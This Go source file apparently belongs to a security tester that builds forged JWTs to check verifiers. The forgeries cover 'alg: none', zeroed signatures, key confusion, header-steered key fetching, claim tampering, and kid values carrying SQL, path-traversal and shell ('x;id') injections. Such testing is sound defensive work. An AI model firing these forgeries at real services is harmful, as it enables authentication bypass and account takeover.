package attack

import (
	"encoding/base64"
	"strconv"
	"strings"
)

// forgeries returns all ways to change a token.
func forgeries() []forgery {
	all := []forgery{
		{name: "flipped", about: "does not check the signature", forge: flipped},
		{name: "stranger", about: "takes any key that fits", forge: strangers(nil)},
	}
	all = append(all, unsigned()...)
	all = append(all, confused()...)
	all = append(all, steered()...)
	all = append(all, changed()...)
	return append(all, misspelt()...)
}

// strangers is a token of another key with some members of the header changed.
func strangers(header map[string]any) func(string, Keys) string {
	return ofJWT(func(p parts, _ Keys) string {
		key, _ := stranger()
		return es256(with(p.header, with(map[string]any{"alg": "ES256"}, header)), p.claims, key)
	})
}

// unsigned are tokens without a signature that is one.
func unsigned() []forgery {
	var all []forgery
	for _, alg := range []string{"none", "None", "NONE", "nOnE"} {
		all = append(all, forgery{
			name: "alg-" + alg, sources: "CVE-2015-2951", about: "takes a token that says it has no signature",
			forge: ofJWT(func(p parts, _ Keys) string {
				return object(with(p.header, map[string]any{"alg": alg})) + "." + p.raw[1] + "."
			}),
		})
	}
	const empty = "takes an empty signature for a good one"
	return append(all,
		forgery{name: "none-with-signature", about: "takes a token that says it has no signature", forge: ofJWT(func(p parts, _ Keys) string {
			return object(with(p.header, map[string]any{"alg": "none"})) + "." + p.raw[1] + "." + p.raw[2]
		})},
		forgery{name: "no-signature", sources: "CVE-2020-28042", about: empty, forge: ofJWT(func(p parts, _ Keys) string { return p.raw[0] + "." + p.raw[1] + "." })},
		forgery{name: "two-parts", about: empty, forge: ofJWT(func(p parts, _ Keys) string { return p.raw[0] + "." + p.raw[1] })},
		forgery{name: "zeros", sources: "CVE-2022-21449", about: "takes a signature of zeros", forge: ofJWT(func(p parts, _ Keys) string {
			return p.raw[0] + "." + p.raw[1] + "." + base64.RawURLEncoding.EncodeToString(make([]byte, base64.RawURLEncoding.DecodedLen(len(p.raw[2]))))
		})},
		forgery{name: "no-alg", about: "takes a token that says nothing of its algorithm", forge: ofJWT(func(p parts, _ Keys) string {
			return object(with(p.header, map[string]any{"alg": nil})) + "." + p.raw[1] + "." + p.raw[2]
		})},
	)
}

// confused are tokens whose public key is taken for a shared secret.
func confused() []forgery {
	var all []forgery
	for i, form := range []string{"pem", "pem-trimmed", "der", "jwk", "thumbprint"} {
		all = append(all, forgery{
			name: "hs256-" + form, sources: "CVE-2015-9235 CVE-2026-33322 CVE-2026-11800", about: "takes the public key for a shared secret",
			forge: ofJWT(func(p parts, k Keys) string {
				if len(k.Secrets) <= i {
					return ""
				}
				return hs256(p, with(p.header, map[string]any{"alg": "HS256"}), k.Secrets[i])
			}),
		})
	}
	for _, secret := range []string{"", "secret", "changeme", "your-256-bit-secret"} {
		all = append(all, forgery{
			name: "hs256-" + strconv.Quote(secret), sources: "CVE-2019-20933", about: "takes a blank or well-known secret",
			forge: ofJWT(func(p parts, _ Keys) string {
				return hs256(p, with(p.header, map[string]any{"alg": "HS256"}), []byte(secret))
			}),
		})
	}
	for _, alg := range []string{"RS256", "PS256", "ES384", "ES512", "EdDSA", "HS512", "es256", "ES256K"} {
		all = append(all, forgery{
			name: "alg-" + alg, sources: "CVE-2026-48523", about: "lets the token choose the algorithm of a key",
			forge: ofJWT(func(p parts, _ Keys) string {
				if p.header["alg"] == alg {
					return ""
				}
				return object(with(p.header, map[string]any{"alg": alg})) + "." + p.raw[1] + "." + p.raw[2]
			}),
		})
	}
	return all
}

// steered are tokens that say where their key is.
func steered() []forgery {
	inHeader := func(member string) func(string, Keys) string {
		return ofJWT(func(p parts, _ Keys) string {
			key, jwk := stranger()
			return es256(with(p.header, map[string]any{"alg": "ES256", member: jwk}), p.claims, key)
		})
	}
	all := []forgery{{name: "jwk", sources: "CVE-2018-0114", about: "takes the key from the token", forge: inHeader("jwk")}}
	for member, value := range sorted(map[string]string{
		"jku": "http://127.0.0.1:9/keys", "x5u": "http://127.0.0.1:9/cert", "iss": "http://127.0.0.1:9/",
	}) {
		all = append(all, forgery{
			name: member, sources: "CVE-2026-32301", about: "fetches keys from where the token says", forge: strangers(map[string]any{member: value}),
		})
	}
	for i, kid := range []string{
		"../../../../../../dev/null", "/dev/null", "' UNION SELECT 'x", "x;id", "", "http://127.0.0.1:9/keys", "\x00", strings.Repeat("k", 4096),
	} {
		all = append(all, forgery{
			name: "kid-" + strconv.Itoa(i+1), sources: "CVE-2026-49998", about: "uses kid for more than a name",
			forge: ofJWT(func(p parts, _ Keys) string {
				return hs256(p, with(p.header, map[string]any{"alg": "HS256", "kid": kid}), nil)
			}),
		})
	}
	all = append(all, forgery{name: "no-kid", about: "tries any key on a token that names none", forge: strangers(map[string]any{"kid": nil})})
	for name, changes := range sorted(map[string]map[string]any{
		"crit": {"crit": []string{"exp"}}, "b64": {"b64": false, "crit": []string{"b64"}}, "zip": {"zip": "DEF"}, "enc": {"alg": "dir", "enc": "A128GCM"},
	}) {
		all = append(all, forgery{name: name, about: "goes on where a header member says that it must not", forge: strangers(changes)})
	}
	return all
}

// changed are tokens with other claims and the old signature.
func changed() []forgery {
	var all []forgery
	for name, changes := range sorted(map[string]map[string]any{
		"aud": {"aud": "https://other.example"}, "no-aud": {"aud": nil}, "aud-list": {"aud": []string{"https://other.example"}},
		"exp": {"exp": 9999999999}, "no-exp": {"exp": nil}, "exp-text": {"exp": "9999999999"}, "exp-huge": {"exp": 1e308},
		"scope": {"scope": "*"}, "client": {"client_id": "admin", "sub": "admin"}, "issuer": {"iss": "https://evil.example"}, "jti": {"jti": nil},
		"cnf": {"cnf": map[string]any{}}, "admin": {`x":1,"admin`: true},
	}) {
		all = append(all, forgery{
			name: "claims-" + name, sources: "CVE-2026-30223 GHSA-4cf7-xm37-g63h", about: "does not check the signature over these claims",
			forge: ofJWT(func(p parts, _ Keys) string { return p.raw[0] + "." + object(with(p.claims, changes)) + "." + p.raw[2] }),
		})
	}
	for _, typ := range []string{"JWT", "dpop+jwt", "token-introspection+jwt", "client-authentication+jwt", "at+jwt;x"} {
		all = append(all, forgery{
			name: "typ-" + typ, sources: "CVE-2026-41164", about: "takes a JWT of another kind for an access token", forge: strangers(map[string]any{"typ": typ}),
		})
	}
	return all
}

// misspelt are other spellings of a good token. Whoever takes one has two
// names for one token, in its caches and in its list of revoked ones.
func misspelt() []forgery {
	const about = "takes a second spelling of a token"
	spell := func(name string, forge func(p parts) string) forgery {
		return forgery{name: "spelled-" + name, about: about, forge: ofJWT(func(p parts, _ Keys) string { return forge(p) })}
	}
	join := func(header, claims, signature string) string { return header + "." + claims + "." + signature }
	return []forgery{
		spell("padded", func(p parts) string { return join(p.raw[0], p.raw[1], p.raw[2]+"=") }),
		spell("padded-2", func(p parts) string { return join(p.raw[0], p.raw[1], p.raw[2]+"==") }),
		spell("dot", func(p parts) string { return join(p.raw[0], p.raw[1], p.raw[2]+".") }),
		spell("dot-first", func(p parts) string { return "." + join(p.raw[0], p.raw[1], p.raw[2]) }),
		spell("four", func(p parts) string { return join(p.raw[0], p.raw[1], p.raw[2]+"."+p.raw[2]) }),
		spell("five", func(p parts) string { return join(p.raw[0], p.raw[1], p.raw[2]+"..AAAA") }),
		spell("junk", func(p parts) string { return join(p.raw[0], p.raw[1], p.raw[2]+"!") }),
		spell("long", func(p parts) string { return join(p.raw[0], p.raw[1], p.raw[2]+"AAAA") }),
		spell("bits", func(p parts) string { return join(p.raw[0], p.raw[1], looseBits(p.raw[2])) }),
		spell("json", func(p parts) string {
			return `{"payload":"` + p.raw[1] + `","signatures":[{"protected":"` + p.raw[0] + `","signature":"` + p.raw[2] + `"}]}`
		}),
		spell("standard", func(p parts) string {
			other := strings.NewReplacer("-", "+", "_", "/").Replace(join(p.raw[0], p.raw[1], p.raw[2]))
			if other == join(p.raw[0], p.raw[1], p.raw[2]) {
				return ""
			}
			return other
		}),
		spell("header-space", func(p parts) string {
			raw, _ := base64.RawURLEncoding.DecodeString(p.raw[0])
			return join(encode(string(raw)+" "), p.raw[1], p.raw[2])
		}),
		spell("twice", func(p parts) string {
			raw, _ := base64.RawURLEncoding.DecodeString(p.raw[0])
			return join(encode(strings.Replace(string(raw), "{", `{"alg":"none",`, 1)), p.raw[1], "")
		}),
	}
}

// looseBits changes the bits behind the last byte of a base64 text, which
// stand for nothing.
func looseBits(segment string) string {
	const alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
	if len(segment)%4 == 0 || segment == "" {
		return segment + "A" // a length that base64 does not have
	}
	last := strings.IndexByte(alphabet, segment[len(segment)-1])
	if last < 0 {
		return ""
	}
	return segment[:len(segment)-1] + string(alphabet[last^1])
}
